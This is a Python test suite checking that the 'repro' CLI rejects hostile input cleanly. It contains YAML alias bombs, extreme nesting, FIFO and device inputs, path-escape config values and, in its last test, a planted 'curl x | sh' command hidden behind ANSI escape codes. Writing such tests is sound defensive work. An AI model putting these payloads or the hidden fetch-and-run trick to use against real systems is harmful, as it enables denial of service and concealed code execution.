"""Hostile or broken input (issue 10): every one is a one-line `error:` with the documented
exit code, fast, in bounded memory. Each test here failed before the fix it names."""

from __future__ import annotations

import json
import os
import resource
import subprocess
from pathlib import Path

import pytest

from repro import errors
from repro.cli.main import main
from repro.record import config, store
from tests.conftest import PYTHON, git

BAD_ID = "20200101T000000.000000Z-dead"
MEMORY_LIMIT = 2 * 1024**3  # the billion-laughs manifest needed 5.5 GB before


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def repro_cli(repo: Path, *args: str, timeout: float = 60) -> tuple[int, str, str]:
    """repro as a real process, memory-limited; (exit code, stdout, stderr)."""
    done = subprocess.run([PYTHON, "-m", "repro", *args], cwd=repo, capture_output=True,
                          text=True, timeout=timeout, preexec_fn=_limit_memory,
                          stdin=subprocess.DEVNULL, errors="replace")
    return done.returncode, done.stdout, done.stderr


def assert_one_line_error(err: str, *fragments: str) -> None:
    lines = [line for line in err.splitlines() if line.startswith("error:")]
    assert len(lines) == 1, err
    assert "Traceback" not in err and "internal error" not in err, err
    for fragment in fragments:
        assert fragment in lines[0], lines[0]


def plant(repo: Path, text: str, run_id: str = BAD_ID) -> Path:
    run_dir = repo / ".repro" / "runs" / run_id
    run_dir.mkdir(parents=True)
    (run_dir / "manifest.yaml").write_text(text)
    return run_dir


LAUGHS = "".join(
    [f"l0: &l0 [{', '.join(['lol'] * 9)}]\n"]
    + [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 12)]
)
BOMB_MANIFEST = ("schema: repro/run/v1\nrun: {run_id: x, status: succeeded, started_at: t}\n"
                 "command: {argv: [python]}\nseed: {value: 1, source: flag}\n"
                 "code: {commit: abc}\nhardware:\n" + "".join(f"  {line}\n" for line in
                                                            LAUGHS.splitlines()))
DEEP_MANIFEST = ("schema: repro/run/v1\nhardware: " + "[" * 50_000 + "]" * 50_000 + "\n")


@pytest.fixture
def one_run(repo: Path) -> Path:
    assert main(["run", "--seed", "1", "--", PYTHON, "train.py"]) == 0
    return repo


@pytest.mark.slow
@pytest.mark.parametrize("text", [BOMB_MANIFEST, DEEP_MANIFEST], ids=["aliases", "deep"])
def test_hostile_manifest_is_one_error_on_every_command(one_run: Path, text: str) -> None:
    repo = one_run
    plant(repo, text)
    what = "alias" if "&" in text else "nesting depth"
    for args, code in [(["show", BAD_ID], 2), (["show", BAD_ID, "--json"], 2),
                       (["diff", "latest", BAD_ID], 2), (["verify", BAD_ID, "--yes"], 2),
                       (["replay", BAD_ID, "--yes"], 125)]:
        rc, _, err = repro_cli(repo, *args, timeout=30)
        assert rc == code, (args, err)
        assert_one_line_error(err, what)
    # `runs` still lists the good run and names the bad one in one line.
    rc, out, err = repro_cli(repo, "runs", "--json", timeout=30)
    assert rc == 0, err
    rows = json.loads(out)["runs"]
    assert [r["status"] for r in rows] == ["succeeded", "unreadable"]
    assert what in rows[1]["error"] and "\n" not in rows[1]["error"]


def test_show_of_a_device_or_fifo_is_refused_at_once(repo: Path) -> None:
    fifo = repo / "pipe.yaml"
    os.mkfifo(fifo)
    for target, kind in [("/dev/zero", "character device"), (str(fifo), "FIFO")]:
        rc, _, err = repro_cli(repo, "show", target, timeout=20)
        assert rc == 2
        assert_one_line_error(err, kind, "not a regular file")


@pytest.mark.slow
def test_metrics_pointing_at_a_device_or_fifo_is_a_warning(repo: Path) -> None:
    (repo / ".gitignore").write_text(".repro/\nout/\n")
    git(repo, "commit", "-qam", "ignore out")
    (repo / "zero.py").write_text("import os\nos.makedirs('out', exist_ok=True)\n"
                                  "os.symlink('/dev/zero', 'out/zero.json')\n")
    git(repo, "add", "zero.py")
    git(repo, "commit", "-qm", "zero")
    rc, _, err = repro_cli(repo, "run", "--metrics", "out/zero.json", "--", PYTHON, "zero.py",
                           timeout=30)
    assert rc == 0, err
    assert "character device, not a regular file" in err
    (repo / "fifo.py").write_text("import os\nos.mkfifo('out/m.yaml')\n")
    git(repo, "add", "fifo.py")
    git(repo, "commit", "-qm", "fifo")
    rc, _, err = repro_cli(repo, "run", "--metrics", "out/m.yaml", "--", PYTHON, "fifo.py",
                           timeout=30)
    assert rc == 0, err
    assert "FIFO, not a regular file" in err


DEEP_JSON = "[" * 100_000 + "]" * 100_000
CONDA_BOMB = "package:\n" + "".join(f"  - {line}\n" for line in LAUGHS.splitlines()[:1]) \
    + "x:\n" + "".join(f"  {line}\n" for line in LAUGHS.splitlines())
BROKEN_LOCKS = [
    ("conda-lock.yml", "", "lists no packages|must be a"),
    ("uv.lock", 'version = 1\npackage = "x"\n', "'package' must be an array of tables"),
    ("poetry.lock", "package = [1, 2]\n", "package 1 must be a table"),
    ("Pipfile.lock", json.dumps({"default": {"numpy": "==1.0"}}), "default.numpy must be"),
    ("Pipfile.lock", json.dumps({"default": []}), "'default' must be an object"),
    ("Pipfile.lock", json.dumps([1, 2]), "top level must be an object"),
    ("Pipfile.lock", DEEP_JSON, "nested too deeply"),
    ("conda-lock.yml", "package: x\n", "'package' must be a list"),
    ("conda-lock.yml", "package: " + "[" * 100_000 + "]" * 100_000 + "\n", "nesting depth"),
    ("conda-lock.yml", CONDA_BOMB, "alias"),
    ("requirements.lock", "", "pins no packages"),
    ("uv.lock", 'version = 99\n[[package]]\nname = "numpy"\nversion = "1"\n', "version = 99"),
]


@pytest.mark.parametrize(("name", "text", "fragment"), BROKEN_LOCKS,
                         ids=[f"{n}-{i}" for i, (n, _, _) in enumerate(BROKEN_LOCKS)])
def test_broken_lockfile_is_one_error_exit_125(repo: Path, capfd: pytest.CaptureFixture[str],
                                               name: str, text: str, fragment: str) -> None:
    (repo / name).write_text(text)
    git(repo, "add", name)
    git(repo, "commit", "-qm", "lock")
    assert main(["run", "--", PYTHON, "train.py"]) == 125
    err = capfd.readouterr().err
    assert_one_line_error(err, name)
    import re

    assert re.search(fragment, err), err
    assert not (repo / ".repro" / "runs").exists()


@pytest.mark.parametrize(("text", "fragment"), [
    ("lockfile: /etc/passwd\n", "'lockfile' must be a path relative"),
    ("lockfile: ../x.lock\n", "'lockfile' must be a path relative"),
    ("seed: 4294967296\n", "'seed' must be an integer from 0 to 4294967295"),
    ("threads: 0\n", "'threads' must be an integer from 1 to 4096"),
    ("threads: 100000000\n", "'threads' must be an integer from 1 to 4096"),
    ("seed: 1\nseed: 2\n", "found duplicate key 'seed'"),
    ("data: [\"a\\0b\"]\n", "'data' must be a list of paths"),
    ("seed: " + "[" * 100_000 + "]" * 100_000 + "\n", "nesting depth"),
])
def test_config_errors_name_key_and_file_and_exit_125(
        repo: Path, capfd: pytest.CaptureFixture[str], text: str, fragment: str) -> None:
    (repo / "repro.yaml").write_text(text)
    git(repo, "add", "repro.yaml")
    git(repo, "commit", "-qm", "config")
    assert main(["run", "--", PYTHON, "train.py"]) == 125
    err = capfd.readouterr().err
    assert_one_line_error(err, "repro.yaml", fragment)


def test_duplicate_key_in_pyproject_is_refused(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.repro]\nseed = 1\nseed = 2\n")
    with pytest.raises(errors.ConfigError, match=r"pyproject\.toml"):
        config.load(tmp_path)


DOTTED = ".".join(["a"] * 50_000)  # 100 KB: tomllib took 45 s on it (quadratic in depth)


@pytest.mark.parametrize(("name", "text"), [
    ("pyproject.toml", f"[tool.repro]\n{DOTTED} = 1\n"),
    ("pyproject.toml", f"[tool.repro]\nseed = 1\n[{DOTTED}]\n"),
    ("pyproject.toml", f'[tool.repro]\nx = {{ {DOTTED.replace("a", chr(34) + "k" + chr(34))} = 1 }}\n'),
    ("uv.lock", f"version = 1\n[{DOTTED}]\n"),
], ids=["pyproject-key", "pyproject-header", "pyproject-inline-quoted", "uv.lock-header"])
def test_a_deeply_dotted_toml_key_is_refused_fast(repo: Path, name: str, text: str) -> None:
    (repo / name).write_text(text)
    git(repo, "add", name)
    git(repo, "commit", "-qm", "toml")
    code, _, err = repro_cli(repo, "run", "--", PYTHON, "train.py", timeout=20)
    assert code == 125, err
    assert_one_line_error(err, name, "nested too deeply")


def test_long_data_name_is_one_error(repo: Path, capfd: pytest.CaptureFixture[str]) -> None:
    assert main(["run", "--data", "a" * 5000, "--", PYTHON, "train.py"]) == 125
    err = capfd.readouterr().err
    assert_one_line_error(err, "File name too long")
    assert len(err.splitlines()[0]) < 400  # the name is cut in the middle, not printed whole


@pytest.mark.slow
def test_huge_and_deep_metrics_are_warnings(repo: Path) -> None:
    (repo / ".gitignore").write_text(".repro/\nout/\n")
    big = "1" * 5000
    deep = "[" * 100_000 + "]" * 100_000
    (repo / "m.py").write_text(
        "import os, pathlib\n"
        "pathlib.Path('out').mkdir(exist_ok=True)\n"
        f"pathlib.Path('out/m.yaml').write_text('loss: {big}\\n')\n"
        f"pathlib.Path('out/m.json').write_text('{{\"a\": {deep}}}')\n"
        f"open(os.environ['REPRO_METRICS_FILE'], 'w').write('{{\"b\": {deep}}}\\n{{\"c\": 1}}\\n')\n"
        f"print('acc={big}')\n")
    (repo / "repro.yaml").write_text("metric_patterns: ['acc=(?P<acc>\\d+)']\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "metrics")
    for path, what in [("out/m.yaml", "more than 4,300 digits"), ("out/m.json", "nested")]:
        rc, _, err = repro_cli(repo, "run", "--metrics", path, "--", PYTHON, "m.py")
        assert rc == 0, err
        assert what in err and "Traceback" not in err
        rc, out, err = repro_cli(repo, "show", "latest", "--json")
        assert rc == 0, err
        final = json.loads(out)["metrics"]["final"]
        assert final["acc"] == big and final["c"] == 1 and "b" not in final


def test_non_utf8_file_name_is_listed_escaped_by_diff(
        repo: Path, capfd: pytest.CaptureFixture[str]) -> None:
    assert main(["run", "--seed", "1", "--", PYTHON, "train.py"]) == 0
    name = os.fsdecode(b"caf\xe9.txt")
    (repo / name).write_text("x")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "latin-1 name")
    assert main(["run", "--seed", "1", "--", PYTHON, "train.py"]) == 0
    capfd.readouterr()
    assert main(["diff", "latest~1", "latest", "--json"]) == 1
    captured = capfd.readouterr()
    assert "Traceback" not in captured.err
    changes = json.loads(captured.out)["sections"]["code"]["changes"]
    assert changes[0]["files"] == [{"status": "A", "path": "caf\\xe9.txt"}], changes
    assert main(["diff", "latest~1", "latest"]) == 1
    assert "caf\\xe9.txt" in capfd.readouterr().out


@pytest.mark.parametrize("args", [
    ["run", "--seed", "x", "--", "python"],
    ["run", "--threads", "100000000", "--", "python"],
    ["run", "--determinism", "max", "--", "python"],
    ["run"],
    ["replay", "--bogus", "latest"],
    ["replay"],
])
def test_run_and_replay_usage_errors_exit_125(repo: Path, args: list[str],
                                              capfd: pytest.CaptureFixture[str]) -> None:
    assert main(args) == 125
    assert "Traceback" not in capfd.readouterr().err


def test_usage_errors_of_other_commands_still_exit_2(repo: Path) -> None:
    assert main(["show", "--bogus"]) == 2
    assert main(["verify", "--runs", "0", "latest"]) == 2


@pytest.mark.parametrize("ref", ["a\0b", "x" * 5000, "d/" * 3000, "latest~" + "9" * 5000,
                                 "/dev/zero/x", "\udcff.yaml"])
def test_resolve_odd_references_is_run_not_found(repo: Path, ref: str) -> None:
    with pytest.raises(errors.RunNotFoundError) as e:
        store.open_here().resolve(ref)
    assert len(e.value.message) < 400 and "\n" not in e.value.message


def test_cli_process_handles_a_deep_manifest_path_ref(one_run: Path) -> None:
    run_dir = plant(one_run, DEEP_MANIFEST)
    rc, _, err = repro_cli(one_run, "show", str(run_dir / "manifest.yaml"), timeout=30)
    assert rc == 2
    assert_one_line_error(err, "nesting depth")


def test_hook_probes_a_run_planted_are_bounded(tmp_path: Path) -> None:
    """The hook's JSON files are written by the run's processes: a FIFO, a 100,000-deep or
    over-deep probe is a recorded read error, never a hang or a RecursionError."""
    from repro.child import hookprobe

    os.mkfifo(tmp_path / "hook-1-1.probe.json")
    (tmp_path / "hook-2-1.probe.json").write_text("[" * 100_000 + "]" * 100_000)
    (tmp_path / "hook-3-1.probe.json").write_text('{"pid": 3, "x": ' + "[" * 20 + "]" * 20 + "}")
    summary = hookprobe.summarize(tmp_path, ["python", "train.py"])
    errs = {e["error"].split(":")[0]: e["error"] for e in summary["errors"]}
    assert "FIFO, not a regular file" in errs["hook-1-1.probe.json"]
    assert "nested too deeply" in errs["hook-2-1.probe.json"]
    assert "nested more than 16 levels" in errs["hook-3-1.probe.json"]


def test_escape_sequences_in_a_planted_argv_never_reach_the_terminal(
        one_run: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """ESC[2K / ESC[1A in an argv word of a manifest from elsewhere: `runs`, `show`, `diff`
    and `--script` print it escaped, so a listing cannot be redrawn to hide what a run
    executes (the script's `$'...'` word is the same argument for bash)."""
    import yaml

    [genuine] = list((one_run / ".repro" / "runs").iterdir())
    doc = yaml.safe_load((genuine / "manifest.yaml").read_text())
    doc["run"]["run_id"] = BAD_ID
    doc["command"]["argv"] = ["sh", "-c", "curl x | sh\x1b[2K\x1b[1Apython train.py"]
    plant(one_run, yaml.safe_dump(doc))
    for args in (["runs"], ["show", BAD_ID], ["diff", genuine.name, BAD_ID],
                 ["replay", "--script", BAD_ID]):
        capfd.readouterr()
        main(args)
        out = "".join(capfd.readouterr())
        assert "\x1b[2K" not in out and "\\x1b[2K" in out, (args, out)
